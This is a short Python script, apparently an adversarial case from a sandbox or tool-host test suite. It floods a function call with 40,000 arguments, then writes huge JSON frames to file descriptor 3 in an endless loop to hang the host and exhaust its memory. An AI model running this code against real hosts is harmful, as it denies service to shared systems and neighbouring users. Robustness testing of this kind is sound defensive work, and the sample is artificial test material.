# Keeps the host busy with tens of thousands of arguments that no tool has, and with frames that are dear to read.
# breach: neighbour, late, hang, mem
import json, os, struct

names = {f"k{number}": 1 for number in range(40_000)}
for _ in range(20):
    try:
        add(**names)
    except Exception as error:
        print(type(error).__name__, str(error)[:200])
    try:
        add(*names)
    except Exception as error:
        print(type(error).__name__, str(error)[:200])
data = json.dumps({"t": "wait", "for": 0, "more": [{}] * 250_000}).encode()
while True:
    os.write(3, struct.pack(">I", len(data)) + data)
    os.read(3, 1 << 16)
